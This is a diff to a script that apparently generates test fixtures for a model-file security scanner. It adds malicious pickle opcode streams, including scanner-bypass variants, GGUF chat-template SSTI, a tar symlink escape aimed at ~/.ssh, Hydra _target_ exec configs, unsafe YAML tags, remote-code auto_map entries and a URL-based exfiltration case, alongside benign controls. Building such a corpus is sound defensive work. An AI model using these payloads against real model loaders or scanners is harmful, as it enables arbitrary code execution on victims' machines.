+case("h01_remote/config.json", json.dumps({"architectures": ["M"], "auto_map": {
+    "AutoConfig": "attacker/code-repo--configuration_m.MConfig",
+    "AutoModel": "attacker/code-repo--modeling_m.MModel"}, "model_type": "m"}, indent=2).encode(),
+     "config.json auto_map pulls modeling code from another repository (trust_remote_code)",
+     "HF remote code (trust_remote_code supply chain)", "high", "WT-HF")
+case("h03_pipeline/config.json", json.dumps({"custom_pipelines": {"evil-task": {
+    "impl": "attacker/code-repo--pipe.EvilPipeline", "pt": ["AutoModel"]}}}, indent=2).encode(),
+     "custom_pipelines impl from another repository", "HF remote code (trust_remote_code supply chain)", "high",
+     "WT-HF")
+case("h02_local/config.json", json.dumps({"architectures": ["M"], "auto_map": {
+    "AutoModel": "modeling_m.MModel"}, "model_type": "m"}, indent=2).encode(),
+     "auto_map to this repository's own modeling file (informative only)", "control", "none", "-")
+
+tb = io.BytesIO()
+with tarfile.open(fileobj=tb, mode="w:gz") as t:
+    ti = tarfile.TarInfo("model_config/link")
+    ti.type = tarfile.SYMTYPE
+    ti.linkname = "/home/user/.ssh"
+    t.addfile(ti)
+    ti = tarfile.TarInfo("model_weights.ckpt")
+    ti.size = 4
+    t.addfile(ti, io.BytesIO(b"\x00" * 4))
+case("c42_tar_symlink_escape.nemo", tb.getvalue(),
+     "tar (.nemo) member that is a symlink out of the extraction folder (tarfile.extractall writes through it)",
+     "CVE-2007-4559 / tarfile link escapes", "medium", "WT-ARCHIVE")
+
+for nm, tpl, src in (
+        ("g22_set_tilde_subscript.gguf", "{% set a = '__cla' %}{% set b = 'ss__' %}{{ ()[a ~ b] }}",
+         "SSTI dunder split across set tags, joined with ~ in a subscript"),
+        ("g23_set_join_subscript.gguf", "{% set u = '_' %}{% set k = [u,u,'class',u,u]|join %}{{ ()[k] }}",
+         "SSTI dunder built with join in a set tag, used as a subscript key"),
+        ("g24_set_format_subscript.gguf",
+         "{% set u = '%c'|format(95) %}{% set k = u~u~'class'~u~u %}{{ ()[k] }}",
+         "SSTI underscore from format(95) stored in a variable")):
+    case(nm, gguf([("general.architecture", "llama"), ("tokenizer.chat_template", tpl)]),
+         "GGUF chat template: " + src, "CVE-2024-34359 variants", "critical", "WT-GGUF")
+
+hdr5 = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
+hdr5 += " " * (63 - (12 + len(hdr5)) % 64) + "\n"
+case("c43_object_v3.npy", b"\x93NUMPY\x03\x00" + struct.pack("<I", len(hdr5)) + hdr5.encode() + mal,
+     "object .npy with a version 3.0 (utf-8) header", "numpy format 3.0", "critical")
+case("p83_newobj_ex_popen.pkl",
+     p4(sg("subprocess", "Popen") + MARK + TRUE + TUPLE + EMPTY_DICT + b"\x92"),
+     "NEWOBJ_EX of a dangerous class (cls.__new__ with args and kwargs)", FICK, "critical")
+case("p84_shortbinstring_stack_global.pkl",
+     proto(4) + b"U\x02os" + b"U\x06system" + b"\x93" + TRUE + TUPLE1 + REDUCE + STOP,
+     "SHORT_BINSTRING (protocol 1) operands feeding STACK_GLOBAL", "https://github.com/protectai/modelscan/pull/313",
+     "critical")
+case("p85_binunicode8_stack_global.pkl",
+     proto(4) + b"\x8d" + struct.pack("<Q", 2) + b"os" + b"\x8d" + struct.pack("<Q", 6) + b"system" + b"\x93"
+     + TRUE + TUPLE1 + REDUCE + STOP,
+     "BINUNICODE8 operands feeding STACK_GLOBAL", "https://github.com/protectai/modelscan/pull/313", "critical")
+
+# Model metadata that an instantiate-style loader turns into a call (Unit 42: NeMo, Uni2TS, FlexTok)
+U42 = "https://unit42.paloaltonetworks.com/rce-vulnerabilities-in-ai-python-libraries/"
+nemo_cfg = (b"target: nemo.collections.asr.models.EncDecCTCModel\nsample_rate: 16000\n"
+            b"preprocessor:\n  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n"
+            b"  window_size: 0.025\noptim:\n  _target_: torch.optim.Adam\n  lr: 0.001\n")
+evil_cfg = nemo_cfg + b"encoder:\n  _target_: builtins.exec\n  _args_:\n    - \"print(1)\"\n"
+for nm, cfgb in (("n01_nemo_target.nemo", evil_cfg), ("b22_nemo_benign.nemo", nemo_cfg)):
+    tb = io.BytesIO()
+    with tarfile.open(fileobj=tb, mode="w:") as t:
+        for mn, md in (("model_config.yaml", cfgb), ("model_weights.ckpt", b"\x00" * 16)):
+            ti = tarfile.TarInfo("./" + mn)
+            ti.size = len(md)
+            t.addfile(ti, io.BytesIO(md))
+    if nm.startswith("n01"):
+        case(nm, tb.getvalue(), ".nemo model_config.yaml with _target_: builtins.exec (Hydra instantiate)",
+             "CVE-2025-23304 (" + U42 + ")", "critical", "WT-HYDRA")
+    else:
+        case(nm, tb.getvalue(), "benign .nemo config (_target_ of NeMo modules and torch.optim.Adam)", "control",
+             "none", "-")
+os.makedirs(os.path.join(OUT, "n02_uni2ts"), exist_ok=True)
+case("n02_uni2ts/config.json", json.dumps({"module_kwargs": {"_target_": "os.system", "_args_": ["true"]},
+                                           "d_model": 64}, indent=2).encode(),
+     "config.json with _target_ os.system loaded through hydra.utils.instantiate (Uni2TS/FlexTok pattern)",
+     U42, "critical", "WT-HYDRA")
+case("n03_flextok.yaml", b"decoder:\n  _target_: 'subprocess.getoutput'\n  cmd: true\n",
+     "quoted _target_ subprocess.getoutput in a YAML model config", U42, "critical", "WT-HYDRA")
+
+
+# TFLite Flex ops run the full TensorFlow kernel (file I/O) inside the interpreter
+def tflite(codes):
+    """Minimal flatbuffer: Model{version=3, operator_codes=[OperatorCode{...}]}.
+    codes: list of (builtin_code, custom_code or None)."""
+    buf = bytearray()
+
+    def align(n=4):
+        while len(buf) % n:
+            buf.append(0)
+
+    buf += b"\x00\x00\x00\x00TFL3"           # root offset patched below
+    # Model vtable: 2 fields (version, operator_codes)
+    mvt = len(buf)
+    buf += struct.pack("<HHHH", 8, 12, 4, 8)
+    mtab = len(buf)
+    buf += struct.pack("<iI", mtab - mvt, 3)  # soffset, version
+    oc_field = len(buf)
+    buf += b"\x00\x00\x00\x00"              # operator_codes uoffset (patched)
+    struct.pack_into("<I", buf, 0, mtab)
+    align()
+    vec = len(buf)
+    struct.pack_into("<I", buf, oc_field, vec - oc_field)
+    buf += struct.pack("<I", len(codes))
+    slots = []
+    for _ in codes:
+        slots.append(len(buf))
+        buf += b"\x00\x00\x00\x00"
+    for i, (builtin, custom) in enumerate(codes):
+        align()
+        vt = len(buf)
+        # fields: 0 deprecated_builtin_code(int8) 1 custom_code(str) 2 version 3 builtin_code(int32)
+        buf += struct.pack("<HHHHHH", 12, 16, 12, 8 if custom else 0, 0, 4)
+        align()
+        tab = len(buf)
+        buf += struct.pack("<i", tab - vt)
+        buf += struct.pack("<i", builtin)     # builtin_code at +4
+        cfield = len(buf)
+        buf += b"\x00\x00\x00\x00"            # custom_code at +8
+        buf += struct.pack("<b", min(builtin, 127)) + b"\x00\x00\x00"  # deprecated at +12
+        struct.pack_into("<I", buf, slots[i], tab - slots[i])
+        if custom:
+            align()
+            s = len(buf)
+            struct.pack_into("<I", buf, cfield, s - cfield)
+            cb = custom.encode()
+            buf += struct.pack("<I", len(cb)) + cb + b"\x00"
+    align()
+    return bytes(buf)
+
+
+case("t02_tflite_flex_writefile.tflite", tflite([(3, None), (32, "FlexWriteFile"), (32, "FlexReadFile")]),
+     "TFLite Flex delegate ops WriteFile/ReadFile (Rammadaeus/tflite-flex-bypass-poc)",
+     "ModelAudit: real HF models other scanners miss", "high", "WT-TFLITE")
+case("p86_obj_then_pop.pkl", b"(" + g("os", "system") + b"S'true'\no0" + NONE + STOP,
+     "OBJ call whose result is POPped (vanishes from an AST view)", "fickling GHSA-mxhj-88fx-4pcv", "critical")
+case("p87_smtplib.pkl", p4(call1(sg("smtplib", "SMTP"), su("127.0.0.1"))),
+     "smtplib.SMTP opens a connection (stdlib treated as safe)", "fickling GHSA-mhc9-48gj-9gp3", "critical")
+case("p88_socketserver.pkl",
+     p4(sg("socketserver", "TCPServer") + su("0.0.0.0") + b"K\x50" + TUPLE2 + NONE + TUPLE2 + REDUCE),
+     "socketserver.TCPServer binds a listener", "fickling GHSA-mhc9-48gj-9gp3", "critical")
+case("p89_codeop.pkl", b"\x80\x02ccodeop\ncompile_command\n(X\x08\x00\x00\x00print(1)tR.",
+     "codeop.compile_command", "ModelAudit picklescan bypass write-up", "critical")
+
+# modelscan issue 338 (real malicious HF models, T. Haruyama) and issue 330
+MS338 = "https://github.com/protectai/modelscan/issues/338"
+case("m01_mlflow_run_entry_point.pkl",
+     p4(sg("mlflow.projects.backend.local", "_run_entry_point") + MARK + TRUE + su(".") + su("") + su("")
+        + TUPLE + REDUCE),
+     "mlflow.projects.backend.local._run_entry_point runs a command", MS338, "critical")
+case("m02_pandas_read_csv_url.pkl",
+     p4(call1(sg("pandas.io.parsers.readers", "read_csv"), su("http://127.0.0.1/x?exfil=1"))),
+     "pandas read_csv of a URL (exfiltration)", MS338, "high")
+case("m03_yaml_unsafe_loader.pkl",
+     p4(sg("yaml", "load") + su("!!python/object/apply:os.system [\"true\"]") + sg("yaml.loader", "UnsafeLoader")
+        + TUPLE2 + REDUCE),
+     "yaml.load(..., UnsafeLoader) of a !!python/object/apply payload (nested deserialization)", MS338,
+     "critical")
+case("m04_yaml_unsafe_load.pkl",
+     p4(call1(sg("yaml", "unsafe_load"), su("!!python/object/new:os.system\nargs: [true]\n"))),
+     "yaml.unsafe_load nested payload", MS338, "critical")
+case("m05_py2_thread.pkl",
+     proto(2) + g("thread", "start_new_thread") + g("__builtin__", "print") + EMPTY_TUPLE + TUPLE2 + REDUCE + STOP,
+     "Python 2 name 'thread' (fix_imports maps it to _thread)", MS338 + " (_compat_pickle mapping)", "critical")
+case("m06_py2_socketserver.pkl",
+     proto(2) + g("SocketServer", "TCPServer") + b"(X\x07\x00\x00\x000.0.0.0K\x50tN\x86R" + STOP,
+     "Python 2 name 'SocketServer' (maps to socketserver)", MS338 + " (_compat_pickle mapping)", "critical")
+case("m07_py2_urllib2.pkl",
+     proto(2) + g("urllib2", "urlopen") + b"X\x10\x00\x00\x00http://127.0.0.1" + TUPLE1 + REDUCE + STOP,
+     "Python 2 name 'urllib2' (maps to urllib.request)", MS338 + " (_compat_pickle mapping)", "critical")
+case("m08_codetype_indirect.pkl",
+     p4(call1(sg("builtins", "type"),
+              call1(sg("operator", "methodcaller") + su("__getattribute__") + su("__code__") + TUPLE2 + REDUCE,
+                    sg("copy", "copy")))
+        + MEMOIZE + b"0"
+        + call1(sg("builtins", "type"), sg("copy", "copy")) + binget(0) + EMPTY_DICT + TUPLE2 + REDUCE
+        + EMPTY_TUPLE + REDUCE),
+     "CodeType/FunctionType reached by type() of a donor function's __code__ (no types import)", MS338,
+     "high")
+case("m09_ext2_add_extension.pkl",
+     proto(2) + g("copyreg", "add_extension") + b"X\x14\x00\x00\x00multiprocessing.util" + b"X\x0e\x00\x00\x00spawnv_passfds"
+     + b"M\x69\x7a" + b"\x87" + REDUCE + b"0" + b"\x83\x69\x7a" + b"C\x07/bin/sh" + b"]" + b"(C\x07/bin/shC\x02-cC\x04truee"
+     + EMPTY_TUPLE + b"\x87" + REDUCE + STOP,
+     "copyreg.add_extension registers spawnv_passfds, EXT2 calls it", MS338, "critical")
+case("m10_inst_str_module.pkl",
+     proto(4) + MARK + su("os") + b"ibuiltins\nstr\n" + binput(0) + b"0" + binget(0) + su("system") + b"\x93"
+     + TRUE + TUPLE1 + REDUCE + STOP,
+     "INST builtins.str('os') feeds STACK_GLOBAL through the memo (a computed module name)", MS338, "high")
+case("m11_builtins_setattr_chain.pkl",
+     proto(4) + g("builtins", "__setattr__") + MEMOIZE
+     + g("builtins", "print.__class__.__base__.__subclasses__") + EMPTY_TUPLE + REDUCE + MEMOIZE
+     + binget(0) + su("subclasses") + binget(1) + TUPLE2 + REDUCE + b"0"
+     + g("builtins", "subclasses.__getitem__") + b"K\x89" + TUPLE1 + REDUCE + MEMOIZE
+     + binget(0) + su("gadget") + binget(2) + TUPLE2 + REDUCE + b"0"
+     + g("builtins", "gadget.__init__.__builtins__.__getitem__") + su("eval") + TUPLE1 + REDUCE
+     + su("print(1)") + TUPLE1 + REDUCE + STOP,
+     "builtins.__setattr__ injects subclasses/gadget names, then __init__.__builtins__['eval']", MS338,
+     "critical")
+case("m12_getattribute_from_module.pkl",
+     p4(call1(sg("transformers.models.auto.auto_factory", "getattribute_from_module")
+              + sg("transformers.models.auto.tokenization_auto", "AutoTokenizer") + su("from_pretrained")
+              + TUPLE2 + REDUCE, su("attacker/repo"))),
+     "transformers getattribute_from_module(AutoTokenizer, 'from_pretrained')('repo') (indirect model load)",
+     MS338 + " (JFrog)", "high")
+case("m13_numpy_size_builtins.pkl",
+     bytes.fromhex("80049566000000000000008c056e756d70798c0473697a659394948c056e756d70798c0c5f5f6275696c74696e735f5f"
+                   "93949468017d7d8c0573686170656803738662680168018c046576616c86528c1d5f5f696d706f72745f5f28226f73"
+                   "22292e73797374656d28226964222985522e").replace(b'system("id")', b'system("tr")'),
+     "numpy.size + BUILD-injected numpy.__builtins__ yields eval (allowlist abuse)",
+     "https://github.com/protectai/modelscan/issues/330", "critical")
+
+case("y01_hparams_python_tag.yaml",
+     b"lr: 0.001\nbatch_size: 8\ncallback: !!python/object/apply:os.system [\"true\"]\n",
+     "YAML model config with !!python/object/apply:os.system (unsafe yaml.load)",
+     "https://github.com/protectai/modelscan/issues/338 (YAML variant)", "critical", "WT-YAML")
+case("y02_python_name_tag.yml",
+     b"optimizer: !!python/name:mylib.optim.Fancy ''\nepochs: 3\n",
+     "YAML !!python/name tag of a project class (any python tag needs an unsafe loader)",
+     "PyYAML python tags", "medium", "WT-YAML")
+case("b23_plain_config.yaml", b"model:\n  name: bert\n  layers: 12\n  note: 'python/object is just text here'\n",
+     "benign YAML config", "control", "none", "-")
+
 # ------------------------------------------------------------------ benign controls
 case("b01_state_dict.pt", torch_zip([("data.pkl", SD)] + TENS),
      "benign torch state_dict (_rebuild_tensor_v2)", "control", "none", "-")
@@ -939,6 +1612,28 @@ try:
         case("b15_arrays.npz", bio.getvalue(), "benign compressed .npz", "control", "none", "-")
     except ImportError:
         pass
+except ImportError:
+    pass
+
+# Stdlib value types whose pickles use getattr / class helpers (CPython 3.11+: Enum members are
+# builtins.getattr(EnumClass, 'NAME'); zoneinfo uses ZoneInfo._unpickle).
+import array as array_mod
+import ipaddress
+import types as types_mod
+import zoneinfo
+vals = {"flag": re.IGNORECASE, "tz": zoneinfo.ZoneInfo("UTC"), "ip": ipaddress.ip_address("10.0.0.1"),
+        "net": ipaddress.ip_network("10.0.0.0/8"), "arr": array_mod.array("f", [1.0, 2.0]),
+        "ns": types_mod.SimpleNamespace(lr=0.1)}
+for proto_ in (2, 4):
+    case("b24_stdlib_values_p%d.pkl" % proto_, pickle.dumps(vals, protocol=proto_),
+         "benign enum member, zoneinfo, ipaddress, array and SimpleNamespace (protocol %d)" % proto_, "control",
+         "none", "-")
+try:
+    import numpy as np
+    case("b25_numpy_subclasses.pkl", pickle.dumps({"m": np.matrix([[1, 2]]), "r": np.rec.array(
+        [(1, 2.0)], dtype=[("a", "i4"), ("b", "f8")])}, protocol=4),
+         "benign numpy matrix and record array (numpy.matrix / numpy.recarray / numpy.record)", "control", "none",
+         "-")
 except ImportError:
     pass
 
